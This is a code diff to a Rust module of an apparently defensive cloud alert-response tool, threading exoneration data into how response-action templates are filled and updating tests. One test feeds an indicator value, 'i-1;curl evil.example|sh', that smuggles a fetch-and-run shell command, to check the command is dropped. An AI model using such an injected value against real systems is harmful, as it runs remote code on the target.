@@ -8,14 +8,18 @@ use std::sync::Arc;
 use nightshift_alert::{Alert, Indicator, IndicatorKind, Provider, Role};
 use serde::{Deserialize, Serialize};
 
+use crate::Exoneration;
+
 mod names;
+mod scope;
+
 pub(crate) use names::resource;
 
 /// An action as the catalogue holds it. `{name}` in text and command stands for a value: `account`, `region`,
 /// `resource`, an indicator type such as `ip` or `instance`, a principal as commands of its cloud want it (`user_name`,
 /// `role_name`, `sso_role`; `person`, `service_account`) or as CloudTrail names it (`caller_name`), or a key that a user
-/// holds (`long_term_key`). A text that needs one which the principal is not leaves the action out. A brace as such is
-/// doubled.
+/// holds (`long_term_key`), and once the alert is cleared who made the finding (`product`) and what a rule that hides its
+/// like must name (`scope`). A text that needs one which there is none of leaves the action out. A brace as such is doubled.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
 pub struct ActionTemplate {
@@ -75,13 +79,15 @@ pub struct Action {
 }
 
 /// Fills an action in; none where the catalogue has no such action for this alert's cloud, or where its text needs a
-/// value that is not known. `known` are the indicators of the case. A command or an undo that lacks a value is left out.
+/// value that is not known. `known` are the indicators of the case, `cleared` is what clears it. A command or an undo that
+/// lacks a value is left out.
 #[must_use]
 pub fn fill(
     templates: &[Arc<ActionTemplate>],
     choice: &ActionChoice,
     alert: &Alert,
     known: &[Indicator],
+    cleared: &[Exoneration],
 ) -> Option<Action> {
     let template = templates.iter().find(|template| {
         template.id == choice.id
@@ -93,6 +99,7 @@ pub fn fill(
         choice,
         alert,
         known,
+        cleared,
     };
     Some(Action {
         id: template.id.clone(),
@@ -108,6 +115,7 @@ struct Values<'a> {
     choice: &'a ActionChoice,
     alert: &'a Alert,
     known: &'a [Indicator],
+    cleared: &'a [Exoneration],
 }
 
 impl Values<'_> {
@@ -146,6 +154,8 @@ impl Values<'_> {
     fn value(&self, name: &str) -> Option<String> {
         match name {
             "account" => self.alert.account.clone(),
+            "product" => Some(scope::product(self.alert)),
+            "scope" => scope::of(self.alert, self.cleared),
             "region" => self.alert.region.clone(),
             "resource" => self
                 .alert
@@ -259,6 +269,7 @@ mod tests {
             &choice(None),
             &alert,
             &[],
+            &[],
         );
         assert_eq!(
             action.and_then(|action| action.command).as_deref(),
@@ -269,7 +280,13 @@ mod tests {
     #[test]
     fn a_brace_as_such_is_doubled() {
         let braces = "put {{\"of\":{{\"id\":\"{instance}\"}}}}";
-        let action = fill(&template(braces), &choice(None), &fixture::alert(), &[]);
+        let action = fill(
+            &template(braces),
+            &choice(None),
+            &fixture::alert(),
+            &[],
+            &[],
+        );
         assert_eq!(
             action.and_then(|action| action.command).as_deref(),
             Some("put {\"of\":{\"id\":\"i-1\"}}")
@@ -283,6 +300,7 @@ mod tests {
             &template("stop {instance}"),
             &choice(Some("i-999")),
             &alert,
+            &[],
             &[],
         );
         assert_eq!(
@@ -299,7 +317,13 @@ mod tests {
             "i-1;curl evil.example|sh",
             Role::Target,
         )];
-        let action = fill(&template("stop {instance}"), &choice(None), &alert, &[]);
+        let action = fill(
+            &template("stop {instance}"),
+            &choice(None),
+            &alert,
+            &[],
+            &[],
+        );
         assert_eq!(action.map(|action| action.command), Some(None));
     }
 
@@ -317,7 +341,7 @@ mod tests {
             id: Some(id.into()),
         });
         alert.principals = told.into_iter().collect();
-        let action = fill(&self::template(template), &choice(None), &alert, &[]);
+        let action = fill(&self::template(template), &choice(None), &alert, &[], &[]);
         action
             .and_then(|action| action.command)
             .unwrap_or_else(|| "none".to_owned())
@@ -405,7 +429,7 @@ mod tests {
                     text: format!("{{{name}}}"),
                     ..ActionTemplate::clone(&template("")[0])
                 };
-                fill(&[Arc::new(template)], &choice(None), &alert, &[])
+                fill(&[Arc::new(template)], &choice(None), &alert, &[], &[])
                     .map_or_else(|| "none".to_owned(), |action| action.text)
             };
             ["user_name", "role_name", "long_term_key"]
@@ -432,6 +456,6 @@ mod tests {
     fn an_action_of_another_cloud_is_not_offered() {
         let mut alert = fixture::alert();
         alert.provider = Provider::Gcp;
-        assert_eq!(fill(&template("x"), &choice(None), &alert, &[]), None);
+        assert_eq!(fill(&template("x"), &choice(None), &alert, &[], &[]), None);
     }
 }
